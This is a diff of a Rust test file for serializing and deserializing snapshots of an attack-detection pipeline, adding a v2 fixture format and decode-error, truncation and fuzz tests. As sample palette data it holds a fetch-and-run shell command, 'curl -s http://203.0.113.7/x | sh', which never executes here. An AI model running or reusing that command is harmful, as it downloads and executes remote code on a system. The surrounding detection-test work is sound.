@@ -9,11 +9,14 @@
 //! - hostile input (truncation, byte mutations, deep nesting) returns
 //!   `Err` or a snapshot that re-encodes, and never panics.
 
+use std::net::Ipv4Addr;
+
+use alertlib::alert::SnapKey;
 use alertlib::filter::{FilterSnapshot, FilterStats, FilterWindowSnapshot};
 use detect::attack_tagger::{EntityStateSnapshot, TaggerSnapshot};
 use detect::correlate::{
     CampaignSnapshot, CorrelatorEntitySnapshot, CorrelatorSnapshot, JoinKeySnapshot, LinkKind,
-    LinkSummary,
+    LinkSnapshot,
 };
 use proptest::prelude::*;
 use scenario::mutate::{generate_campaign, CampaignConfig};
@@ -23,17 +26,38 @@ use simnet::rng::SimRng;
 use simnet::time::{SimDuration, SimTime};
 use testbed::{PipelineBuilder, ServiceConfig, ServiceHandle, ServiceSnapshot, StreamStats};
 
-const GOLDEN: &str = include_str!("fixtures/snapshot_v1.json");
+const GOLDEN_V1: &str = include_str!("fixtures/snapshot_v1.json");
+const GOLDEN_V2: &str = include_str!("fixtures/snapshot_v2.json");
 
 fn t(secs: u64) -> SimTime {
     SimTime::from_secs(secs)
 }
 
+fn user(position: u32) -> SnapKey {
+    SnapKey {
+        kind: SnapKey::USER,
+        id: position,
+    }
+}
+
+fn addr(kind: u8, a: &str) -> SnapKey {
+    let a: Ipv4Addr = a.parse().unwrap();
+    SnapKey {
+        kind,
+        id: u32::from(a),
+    }
+}
+
 /// A small snapshot touching every wire shape: a tagger, a correlator
 /// with a campaign and links, a palette join key, a `null` ring slot, an
-/// empty array and user names that need escaping.
+/// empty array and a user name that needs escaping. It is also what the
+/// v1 fixture decodes to: that document's universe holds `alice` and the
+/// odd user, and `mallory` and the palette payload are appended in the
+/// order the document first names them.
 fn golden_snapshot() -> ServiceSnapshot {
-    let odd_user = "user:o\"brien\\ops\n\t\r\u{1}\u{1f}é";
+    let odd_user = "o\"brien\\ops\n\t\r\u{1}\u{1f}é";
+    let (alice, odd, mallory, palette) = (user(0), user(1), user(2), 3);
+    let host = addr(SnapKey::ADDR, "10.0.0.5");
     ServiceSnapshot {
         tenant: TenantId(7),
         stats: StreamStats {
@@ -45,13 +69,13 @@ fn golden_snapshot() -> ServiceSnapshot {
         filter: FilterSnapshot {
             windows: vec![
                 FilterWindowSnapshot {
-                    source: "src:10.0.0.9".to_string(),
+                    source: addr(SnapKey::SOURCE, "10.0.0.9"),
                     kind: 4,
                     start: t(60),
                     admitted: 2,
                 },
                 FilterWindowSnapshot {
-                    source: odd_user.to_string(),
+                    source: odd,
                     kind: 11,
                     start: t(90),
                     admitted: 1,
@@ -67,7 +91,7 @@ fn golden_snapshot() -> ServiceSnapshot {
         tagger: Some(TaggerSnapshot {
             entities: vec![
                 EntityStateSnapshot {
-                    entity: "user:alice".to_string(),
+                    entity: alice,
                     alpha: vec![0.5, 0.25, 1.0, 1e-300, 0.1 + 0.2],
                     steps: 17,
                     detected: true,
@@ -76,7 +100,7 @@ fn golden_snapshot() -> ServiceSnapshot {
                     recent_head: 1,
                 },
                 EntityStateSnapshot {
-                    entity: odd_user.to_string(),
+                    entity: odd,
                     alpha: vec![0.0, 1.0],
                     steps: 2,
                     detected: false,
@@ -85,14 +109,14 @@ fn golden_snapshot() -> ServiceSnapshot {
                     recent_head: 0,
                 },
             ],
-            evicted_latches: vec!["user:mallory".to_string()],
+            evicted_latches: vec![mallory],
             duplicates_suppressed: 4,
             entities_evicted: 1,
         }),
         correlator: Some(CorrelatorSnapshot {
             entities: vec![
                 CorrelatorEntitySnapshot {
-                    entity: "addr:10.0.0.5".to_string(),
+                    entity: host,
                     campaign: 0,
                     mass: 2.5,
                     last_ts: t(2_900),
@@ -102,7 +126,7 @@ fn golden_snapshot() -> ServiceSnapshot {
                     steps_head: 0,
                 },
                 CorrelatorEntitySnapshot {
-                    entity: "user:alice".to_string(),
+                    entity: alice,
                     campaign: u32::MAX,
                     mass: 0.125,
                     last_ts: t(3_000),
@@ -115,37 +139,35 @@ fn golden_snapshot() -> ServiceSnapshot {
             keys: vec![
                 JoinKeySnapshot {
                     kind: LinkKind::Victim,
-                    addr: 0x0A00_0005,
-                    palette: None,
-                    slots: vec![Some(("user:alice".to_string(), t(2_990))), None],
+                    id: 0x0A00_0005,
+                    slots: vec![Some((alice, t(2_990))), None],
                     head: 1,
                 },
                 JoinKeySnapshot {
                     kind: LinkKind::Palette,
-                    addr: 0,
-                    palette: Some("curl -s http://203.0.113.7/x | sh".to_string()),
-                    slots: vec![Some((odd_user.to_string(), t(95)))],
+                    id: palette,
+                    slots: vec![Some((odd, t(95)))],
                     head: 0,
                 },
             ],
             campaigns: vec![CampaignSnapshot {
                 id: 0,
-                members: vec!["user:alice".to_string(), "addr:10.0.0.5".to_string()],
+                members: vec![alice, host],
                 links: vec![
-                    LinkSummary {
+                    LinkSnapshot {
                         ts: t(2_900),
-                        a: "user:alice".into(),
-                        b: "addr:10.0.0.5".into(),
+                        a: alice,
+                        b: host,
                         kind: LinkKind::Victim,
                     },
-                    LinkSummary {
+                    LinkSnapshot {
                         ts: t(2_950),
-                        a: "user:alice".into(),
-                        b: odd_user.into(),
+                        a: alice,
+                        b: odd,
                         kind: LinkKind::Palette,
                     },
                 ],
-                best_key: Some("user:alice".to_string()),
+                best_key: Some(alice),
                 best_mass: 2.5,
                 second: 0.75,
                 support_ts: t(2_990),
@@ -158,18 +180,29 @@ fn golden_snapshot() -> ServiceSnapshot {
             tagger_confirmations: 2,
             entities_evicted: 0,
         }),
-        sym_universe: vec![(0, "alice".to_string()), (1, odd_user[5..].to_string())],
+        sym_universe: vec![
+            "alice".to_string(),
+            odd_user.to_string(),
+            "mallory".to_string(),
+            "curl -s http://203.0.113.7/x | sh".to_string(),
+        ],
     }
 }
 
 #[test]
-fn encoder_matches_the_v1_golden_fixture() {
-    assert_eq!(golden_snapshot().to_json(), GOLDEN);
+fn encoder_matches_the_v2_golden_fixture() {
+    assert_eq!(golden_snapshot().to_json(), GOLDEN_V2);
+}
+
+#[test]
+fn v2_golden_fixture_decodes_to_its_snapshot() {
+    let decoded = ServiceSnapshot::from_json(GOLDEN_V2).expect("golden fixture decodes");
+    assert_eq!(decoded, golden_snapshot());
 }
 
 #[test]
 fn golden_fixture_decodes_to_its_snapshot() {
-    let decoded = ServiceSnapshot::from_json(GOLDEN).expect("golden fixture decodes");
+    let decoded = ServiceSnapshot::from_json(GOLDEN_V1).expect("golden fixture decodes");
     assert_eq!(decoded, golden_snapshot());
 }
 
@@ -211,7 +244,7 @@ fn campaign_snapshot() -> ServiceSnapshot {
 }
 
 #[test]
-fn encoder_agrees_with_the_serde_json_pretty_printer() {
+fn encoder_agrees_with_the_serde_json_compact_printer() {
     let snap = campaign_snapshot();
     let tagger = snap.tagger.as_ref().expect("tagger state");
     let correlator = snap.correlator.as_ref().expect("correlator state");
@@ -224,7 +257,7 @@ fn encoder_agrees_with_the_serde_json_pretty_printer() {
     assert!(!correlator.campaigns.is_empty());
     let wire = snap.to_json();
     let tree = serde_json::from_str(&wire).expect("wire is JSON");
-    assert_eq!(serde_json::to_string_pretty(&tree).unwrap(), wire);
+    assert_eq!(serde_json::to_string(&tree).unwrap(), wire);
     assert_eq!(ServiceSnapshot::from_json(&wire).unwrap(), snap);
 }
 
@@ -271,110 +304,168 @@ fn fields(v: &mut serde_json::Value) -> &mut Vec<(String, serde_json::Value)> {
 
 #[test]
 fn decode_accepts_any_key_order_unknown_keys_and_repeats() {
-    let reordered = edit(GOLDEN, |tree| {
-        let top = fields(tree);
-        top.reverse();
-        // Unknown keys of every shape are validated and skipped.
-        top.insert(
-            1,
-            (
-                "comment".into(),
-                serde_json::json!({"a": [1, -2.5e3, null, true, "x\u{1}"], "b": {}}),
-            ),
-        );
-        // A repeated key: the first occurrence wins.
-        top.push(("stats".into(), serde_json::json!("ignored")));
-        for (k, v) in top.iter_mut() {
-            if k == "tagger" || k == "correlator" || k == "filter" {
-                fields(v).reverse();
+    for golden in [GOLDEN_V2, GOLDEN_V1] {
+        let reordered = edit(golden, |tree| {
+            let top = fields(tree);
+            // `sym_universe` first and `format` last.
+            if golden == GOLDEN_V2 {
+                top.reverse();
+            } else {
+                // A format-1 document appends the names its universe
+                // lacks in the order it first mentions them, so its
+                // tagger stays ahead of its correlator.
+                top.rotate_right(1);
+                let format = top.remove(1);
+                top.push(format);
             }
-        }
-    });
-    assert_eq!(
-        ServiceSnapshot::from_json(&reordered).unwrap(),
-        golden_snapshot()
-    );
-
-    for key in ["tagger", "correlator"] {
-        let nulled = edit(GOLDEN, |tree| {
-            fields(tree).iter_mut().find(|(k, _)| k == key).unwrap().1 = serde_json::Value::Null;
+            // Unknown keys of every shape are validated and skipped.
+            top.insert(
+                1,
+                (
+                    "comment".into(),
+                    serde_json::json!({"a": [1, -2.5e3, null, true, "x\u{1}"], "b": {}}),
+                ),
+            );
+            // A repeated key: the first occurrence wins.
+            top.push(("stats".into(), serde_json::json!("ignored")));
+            top.push(("format".into(), serde_json::json!(999)));
+            for (k, v) in top.iter_mut() {
+                if k == "tagger" || k == "correlator" || k == "filter" {
+                    fields(v).reverse();
+                }
+            }
         });
-        let missing = edit(GOLDEN, |tree| fields(tree).retain(|(k, _)| k != key));
-        for text in [nulled, missing] {
-            let snap = ServiceSnapshot::from_json(&text).unwrap();
-            let absent = match key {
-                "tagger" => snap.tagger.is_none(),
-                _ => snap.correlator.is_none(),
-            };
-            assert!(absent, "{key} decodes to None");
+        assert_eq!(
+            ServiceSnapshot::from_json(&reordered).unwrap(),
+            golden_snapshot()
+        );
+
+        for key in ["tagger", "correlator"] {
+            let nulled = edit(golden, |tree| {
+                fields(tree).iter_mut().find(|(k, _)| k == key).unwrap().1 =
+                    serde_json::Value::Null;
+            });
+            let missing = edit(golden, |tree| fields(tree).retain(|(k, _)| k != key));
+            for text in [nulled, missing] {
+                let snap = ServiceSnapshot::from_json(&text).unwrap();
+                let absent = match key {
+                    "tagger" => snap.tagger.is_none(),
+                    _ => snap.correlator.is_none(),
+                };
+                assert!(absent, "{key} decodes to None");
+            }
         }
     }
 }
 
-#[test]
-fn decode_errors_name_the_field() {
-    let replace = |from: &str, to: &str| {
-        assert!(GOLDEN.contains(from), "{from}");
-        GOLDEN.replacen(from, to, 1)
-    };
-    for (text, field) in [
-        (replace("\"tenant\": 7", "\"tenant\": 4294967296"), "tenant"),
-        (
-            replace("\"recent_head\": 1", "\"recent_head\": 256"),
-            "recent_head",
-        ),
-        (replace("\"kind\": 11", "\"kind\": 65536"), "kind"),
-        (replace("\"seen\": 340", "\"seen\": -1"), "seen"),
-        (replace("\"seen\": 340", "\"seen\": 3.5"), "seen"),
-        (replace("\"mass\": 2.5", "\"mass\": null"), "mass"),
-        (replace("\"detected\": true", "\"detected\": 1"), "detected"),
-        (
-            replace("\"kind\": \"victim\"", "\"kind\": \"lateral\""),
-            "kind",
-        ),
-        (
-            replace("\"victim\"\n          ]", "\"lateral\"\n          ]"),
-            "links",
-        ),
-        (
-            replace("65535\n          ]", "65535,\n 1\n          ]"),
-            "recent",
-        ),
-        (
-            replace(
-                "\"entity\": \"user:alice\",\n        \"alpha\"",
-                "\"alpha\"",
-            ),
-            "entity",
-        ),
-        (replace("\"palette\": null,\n", ""), "palette"),
-        (replace("\"format\": 1", "\"format\": \"1\""), "format"),
-        (format!("{GOLDEN} {{}}"), "trailing"),
-    ] {
+/// `text` with the first `from` replaced by `to`.
+fn replace(text: &str, from: &str, to: &str) -> String {
+    assert!(text.contains(from), "{from}");
+    text.replacen(from, to, 1)
+}
+
+fn assert_errors(cases: Vec<(String, &str)>) {
+    for (text, field) in cases {
         let err = ServiceSnapshot::from_json(&text).unwrap_err();
         assert!(err.contains(field), "{field}: {err}");
     }
 }
 
 #[test]
+fn decode_errors_name_the_field() {
+    let v2 = |from: &str, to: &str| replace(GOLDEN_V2, from, to);
+    assert_errors(vec![
+        (v2("\"tenant\":7", "\"tenant\":4294967296"), "tenant"),
+        (
+            v2("\"recent_head\":1", "\"recent_head\":256"),
+            "recent_head",
+        ),
+        (v2("\"kind\":11", "\"kind\":65536"), "kind"),
+        (v2("\"seen\":340", "\"seen\":-1"), "seen"),
+        (v2("\"seen\":340", "\"seen\":3.5"), "seen"),
+        (v2("\"mass\":2.5", "\"mass\":null"), "mass"),
+        (v2("\"detected\":true", "\"detected\":1"), "detected"),
+        (v2("\"kind\":\"victim\"", "\"kind\":\"lateral\""), "kind"),
+        (v2("\"victim\"]", "\"lateral\"]"), "links"),
+        (v2("65535]", "65535,1]"), "recent"),
+        (v2("\"entity\":[1,0]", "\"entity\":[1]"), "entity"),
+        (v2("\"entity\":[1,0]", "\"entity\":[256,0]"), "entity"),
+        (
+            v2("\"entity\":[1,0]", "\"entity\":[1,4294967296]"),
+            "entity",
+        ),
+        // A format-1 key string in a format-2 document.
+        (
+            v2("\"entity\":[1,0]", "\"entity\":\"user:alice\""),
+            "entity",
+        ),
+        (v2("\"entity\":[1,0],", ""), "entity"),
+        (v2("\"best_key\":[1,0]", "\"best_key\":0"), "best_key"),
+        (v2("\"id\":167772165,", ""), "id"),
+        (
+            v2("\"evicted_latches\":[[1,2]]", "\"evicted_latches\":[1,2]"),
+            "evicted_latches",
+        ),
+        (v2("[\"alice\",", "[7,"), "sym_universe"),
+        (v2("\"format\":2", "\"format\":\"2\""), "format"),
+        (v2("\"format\":2", "\"format\":3"), "format 3"),
+        (format!("{GOLDEN_V2} {{}}"), "trailing"),
+    ]);
+    let v1 = |from: &str, to: &str| replace(GOLDEN_V1, from, to);
+    assert_errors(vec![
+        (v1("\"tenant\": 7", "\"tenant\": 4294967296"), "tenant"),
+        (v1("\"kind\": \"victim\"", "\"kind\": \"lateral\""), "kind"),
+        (
+            v1("\"entity\": \"user:alice\"", "\"entity\": \"not-a-key\""),
+            "entity",
+        ),
+        (
+            v1(
+                "\"entity\": \"addr:10.0.0.5\"",
+                "\"entity\": \"addr:10.0.0\"",
+            ),
+            "entity",
+        ),
+        (
+            v1("\"entity\": \"user:alice\"", "\"entity\": [1, 0]"),
+            "entity",
+        ),
+        (v1("\"palette\": null,\n", ""), "palette"),
+        (
+            v1(
+                "\"palette\": \"curl -s http://203.0.113.7/x | sh\"",
+                "\"palette\": null",
+            ),
+            "palette",
+        ),
+        (v1("\"sym_universe\"", "\"universe\""), "sym_universe"),
+        (format!("{GOLDEN_V1} {{}}"), "trailing"),
+    ]);
+}
+
+#[test]
 fn every_truncation_is_an_error() {
-    for end in 0..GOLDEN.len() {
-        if GOLDEN.is_char_boundary(end) {
-            assert!(
-                ServiceSnapshot::from_json(&GOLDEN[..end]).is_err(),
-                "prefix of {end} bytes decoded"
-            );
+    for golden in [GOLDEN_V2, GOLDEN_V1] {
+        for end in 0..golden.len() {
+            if golden.is_char_boundary(end) {
+                assert!(
+                    ServiceSnapshot::from_json(&golden[..end]).is_err(),
+                    "prefix of {end} bytes decoded"
+                );
+            }
         }
     }
 }
 
 #[test]
 fn deep_nesting_in_an_unknown_key_is_an_error_not_a_stack_overflow() {
-    let deep = format!("{{\"format\": 1, \"junk\": {}", "[".repeat(1 << 20));
-    let err = ServiceSnapshot::from_json(&deep).unwrap_err();
-    assert!(err.contains("junk"), "{err}");
+    for format in [2, 1] {
+        let deep = format!("{{\"format\":{format},\"junk\":{}", "[".repeat(1 << 20));
+        let err = ServiceSnapshot::from_json(&deep).unwrap_err();
+        assert!(err.contains("junk"), "{err}");
+    }
     let closed = format!(
-        "{{\"junk\": {}{}}}",
+        "{{\"junk\":{}{}}}",
         "[".repeat(1 << 20),
         "]".repeat(1 << 20)
     );
@@ -391,14 +482,17 @@ fn decode_survives(text: &str) {
 proptest! {
     #![proptest_config(ProptestConfig::with_cases(512))]
 
-    /// Single-byte substitutions and insertions anywhere in the fixture.
+    /// Single-byte substitutions and insertions anywhere in either
+    /// fixture.
     #[test]
     fn mutated_fixtures_never_panic(
+        v1 in 0u8..2,
         at in 0usize..1 << 20,
         byte in 0u8..=255,
         insert in 0u8..2,
     ) {
-        let mut bytes = GOLDEN.as_bytes().to_vec();
+        let golden = if v1 == 1 { GOLDEN_V1 } else { GOLDEN_V2 };
+        let mut bytes = golden.as_bytes().to_vec();
         let at = at % bytes.len();
         if insert == 1 {
             bytes.insert(at, byte);
